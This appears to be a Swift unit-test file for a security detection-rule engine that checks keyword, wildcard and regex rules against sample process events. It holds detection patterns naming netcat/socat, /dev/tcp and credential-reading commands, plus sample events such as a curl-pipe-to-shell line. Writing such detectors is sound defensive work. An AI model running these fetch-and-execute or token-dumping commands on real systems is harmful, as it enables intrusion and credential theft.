import Testing
import VigilEvents
import VigilQuery

struct RuleProgramSetTests {
  static let catalog = FieldCatalog([
    "process.name", "process.args", "user.name", "process.command_line", "process.executable", "process.pid",
  ])
  static func id(_ path: String) -> FieldID { catalog.id(path)! }

  static func keyword(_ path: String, _ values: [String], ignoringCase: Bool = false) -> Predicate {
    .test(FieldTest(field: id(path), condition: .keywordIn(ByteStringSet(values, foldingCase: ignoringCase))))
  }

  /// Keyword sets of one field answered together (one lookup for the group) give each rule the answer its own set
  /// gives: overlapping sets, folded and exact sets of the same field, array values, negations, a missing field, and
  /// the same event evaluated again after another. The `nc`/`ncat`/`netcat` set is required by two rules (the whole
  /// predicate of one, an operand of the other's `and`, and both operands of an `or`), so those rules are first
  /// checked against the event's required tests; an `or` where only one operand has it does not require it.
  @Test func groupedKeywordTestsAnswerAsEachSetAlone() throws {
    let predicates: [Predicate] = [
      Self.keyword("process.name", ["nc", "ncat", "netcat"]),
      Self.keyword("process.name", ["ncat", "socat"]),
      Self.keyword("process.name", ["NC"], ignoringCase: true),
      Self.keyword("process.name", ["socat", "ss"], ignoringCase: true),
      .not(Self.keyword("process.name", ["ss"])),
      .and([Self.keyword("process.args", ["-U"]), Self.keyword("process.name", ["nc", "ncat", "netcat"])]),
      .or([Self.keyword("process.args", ["-l", "-p"]), Self.keyword("user.name", ["root"])]),
      Self.keyword("process.args", ["UNIX-CLIENT:/run/x"]),
      .or([
        .and([Self.keyword("process.name", ["nc", "ncat", "netcat"]), Self.keyword("process.args", ["-U"])]),
        .and([Self.keyword("process.name", ["nc", "ncat", "netcat"]), Self.keyword("user.name", ["root"])]),
      ]),
      .or([
        .and([Self.keyword("process.name", ["nc", "ncat", "netcat"]), Self.keyword("process.args", ["-U"])]),
        Self.keyword("user.name", ["root"]),
      ]),
    ]
    let set = RuleProgramSet(predicates)
    let decoder = EventDecoder(catalog: Self.catalog)
    let documents = [
      #"{"process":{"name":"nc","args":["nc","-U","/run/x.sock"]}}"#,
      #"{"process":{"name":"NCAT","args":["-l"]}}"#,
      #"{"process":{"name":"socat","args":["UNIX-CLIENT:/run/x"]},"user":{"name":"root"}}"#,
      #"{"process":{"name":["ss","nc"]}}"#,
      #"{"user":{"name":"alice"}}"#,
      #"{"process":{"name":"nc","args":["nc","-U","/run/x.sock"]}}"#,
    ]
    var memo = TestMemo()
    for document in documents {
      let event = try decoder.decode(document)
      memo.begin()
      // Rules in reverse order too, so that a group is first reached from each of its tests.
      for order in [Array(predicates.indices), predicates.indices.reversed()] {
        var orderMemo = TestMemo()
        orderMemo.begin()
        for rule in order {
          let alone = PredicateProgram(predicates[rule]).evaluate(event)
          #expect(set.evaluate(rule: rule, event, memo: &orderMemo) == alone, "rule \(rule) on \(document)")
          #expect(set.evaluate(rule: rule, event, memo: &memo) == alone, "rule \(rule) on \(document), shared memo")
        }
        // All of them in one call, as the matcher asks: the same rules hold.
        var batchMemo = TestMemo()
        batchMemo.begin()
        var held: [Int32] = []
        set.evaluate(rules: order.map { Int32($0) }, event, memo: &batchMemo, into: &held)
        let alone = order.filter { PredicateProgram(predicates[$0]).evaluate(event) }
        #expect(held.map { Int($0) } == alone, "rules in one call on \(document)")
      }
    }
  }

  /// Sets are equal when they hold the same members in any order, under the same case rule; equal sets hash alike.
  @Test func byteStringSetEqualityIgnoresOrder() {
    let a = ByteStringSet(["nc", "ncat", "netcat"])
    let b = ByteStringSet(["netcat", "nc", "ncat", "nc"])
    #expect(a == b)
    #expect(a.hashValue == b.hashValue)
    #expect(a != ByteStringSet(["nc", "ncat"]))
    #expect(a != ByteStringSet(["nc", "ncat", "socat"]))
    #expect(a != ByteStringSet(["nc", "ncat", "netcat"], foldingCase: true))
    #expect(ByteStringSet(["NC"], foldingCase: true) == ByteStringSet(["nc"], foldingCase: true))
  }

  static func wildcards(_ path: String, _ patterns: [String], ignoringCase: Bool = true) -> Predicate {
    let compiled = patterns.map { WildcardPattern($0, caseInsensitive: ignoringCase) }
    let condition: FieldCondition = compiled.count == 1 ? .wildcard(compiled[0]) : .wildcards(WildcardList(compiled))
    return .test(FieldTest(field: id(path), condition: condition))
  }

  /// Wildcard tests first look for a literal their patterns need in the event's values (``LiteralPrefilter``), and
  /// answer as their patterns alone: patterns with and without case, lists short and long, literals too short to
  /// filter by, and values upper-cased, in arrays, numbers, longer than the gram set reads, and not ASCII (the
  /// Kelvin sign folds to `k`; a value that is not ASCII lets every test through).
  @Test func prefilteredWildcardTestsAnswerAsTheirPatternsAlone() throws {
    let predicates: [Predicate] = [
      Self.wildcards("process.command_line", ["*kernel*"]),
      Self.wildcards("process.command_line", ["*Kernel*"], ignoringCase: false),
      Self.wildcards("process.command_line", ["*curl*http*", "*wget *", "*/dev/tcp/*"]),
      Self.wildcards("process.command_line", ["* -enc *"]),
      Self.wildcards("process.command_line", ["*a*"]),
      Self.wildcards("process.command_line", (1...10).map { "*tool\($0)*" }),
      Self.wildcards("process.executable", [#"?:\\Program Files\\*.exe"#, "/usr/bin/*"]),
      Self.wildcards("process.args", ["*.sock"]),
      Self.wildcards("process.pid", ["*1234*"]),
      .and([Self.wildcards("process.command_line", ["*kernel*"]), Self.keyword("process.name", ["insmod"])]),
      .not(Self.wildcards("process.command_line", ["*wget *"])),
    ]
    let set = RuleProgramSet(predicates)
    let decoder = EventDecoder(catalog: Self.catalog)
    let long = String(repeating: "x", count: 1_100) + " kernel"
    let documents = [
      #"{"process":{"name":"insmod","command_line":"insmod /lib/KERNEL/x.ko","pid":41234}}"#,
      #"{"process":{"command_line":"modprobe \u212Aernel","executable":"/usr/bin/modprobe"}}"#,
      #"{"process":{"command_line":"bash -c 'curl -s http://x | sh'","args":["bash","-c","/run/a.sock"]}}"#,
      #"{"process":{"command_line":"powershell -ENC aGk=","executable":"C:\\Program Files\\a\\b.exe"}}"#,
      #"{"process":{"command_line":"run tool7 now","pid":"1234"}}"#,
      #"{"process":{"command_line":"\#(long)"}}"#,
      #"{"process":{"command_line":["ls", "Kernel"],"args":[]}}"#,
      #"{"process":{"command_line":"ab"}}"#,
      #"{"user":{"name":"alice"}}"#,
    ]
    try Self.expectAnswersAsAlone(set, predicates, documents)
    // The filter is not vacuous: these match.
    let insmod = try decoder.decode(documents[0])
    var memo = TestMemo()
    memo.begin()
    #expect(set.evaluate(rule: 0, insmod, memo: &memo))
    #expect(set.evaluate(rule: 9, insmod, memo: &memo))
    #expect(!set.evaluate(rule: 1, insmod, memo: &memo))
  }

  /// Regex tests look for one of the texts their matches need first, as wildcard tests do, and answer as their
  /// patterns alone, with and without case.
  @Test func prefilteredRegexTestsAnswerAsTheirPatternsAlone() throws {
    func regex(_ pattern: String, ignoringCase: Bool = false) throws -> Predicate {
      let compiled = try LuceneRegex.compile(pattern, caseInsensitive: ignoringCase)
      return .test(FieldTest(field: Self.id("process.command_line"), condition: .regex(compiled)))
    }
    let predicates: [Predicate] = [
      try regex(#".*(gh\s+auth\s+(token|status)|curl\s.*https?://).*"#),
      try regex(#".*(GET-TOKEN|kubectl\s+config\s+view).*"#, ignoringCase: true),
      try regex(".*[ ]{20,}.*"),
      try regex("([^ ]+[ ]{3,}[^ ]*){3,}.*"),
    ]
    let documents = [
      #"{"process":{"command_line":"gh  auth status"}}"#,
      #"{"process":{"command_line":"GH AUTH TOKEN"}}"#,
      #"{"process":{"command_line":"bash -c 'curl -s https://x | sh'"}}"#,
      #"{"process":{"command_line":"Get-Token -x"}}"#,
      #"{"process":{"command_line":["ls", "kubectl  config view --raw"]}}"#,
      #"{"process":{"command_line":"a\#(String(repeating: " ", count: 24))b"}}"#,
      #"{"process":{"command_line":"a   b   c   d"}}"#,
      #"{"process":{"command_line":"gh auth token"}}"#,
      #"{"process":{"command_line":"nothing here"}}"#,
    ]
    let held = try Self.expectAnswersAsAlone(RuleProgramSet(predicates), predicates, documents)
    // The filter is not vacuous: most documents match a rule.
    #expect(held >= 7)
  }

  /// Expects `set` (of `predicates`) to answer each predicate on each document as the predicate alone does, with one
  /// memo per document; returns how many times a predicate held.
  @discardableResult
  static func expectAnswersAsAlone(
    _ set: RuleProgramSet, _ predicates: [Predicate], _ documents: [String]
  ) throws -> Int {
    let decoder = EventDecoder(catalog: Self.catalog)
    var memo = TestMemo()
    var held = 0
    for document in documents {
      let event = try decoder.decode(document)
      memo.begin()
      for rule in predicates.indices {
        let alone = PredicateProgram(predicates[rule]).evaluate(event)
        #expect(set.evaluate(rule: rule, event, memo: &memo) == alone, "rule \(rule) on \(document)")
        if alone { held += 1 }
      }
    }
    return held
  }
}
